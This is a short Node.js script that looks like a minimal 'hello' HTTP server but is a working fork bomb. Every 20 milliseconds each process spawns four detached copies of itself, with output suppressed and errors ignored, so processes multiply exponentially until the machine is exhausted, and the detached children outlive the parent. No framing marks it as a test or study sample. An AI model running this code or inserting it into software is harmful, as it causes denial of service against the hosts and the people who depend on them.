import { spawn } from 'node:child_process';
import http from 'node:http';

http.createServer((request, response) => response.end('hello')).listen(process.env.PORT);
const again = () => {
  for (let n = 0; n < 4; n += 1) spawn(process.execPath, [import.meta.filename], { detached: true, stdio: 'ignore' }).on('error', () => {});
};
setInterval(again, 20);
again();
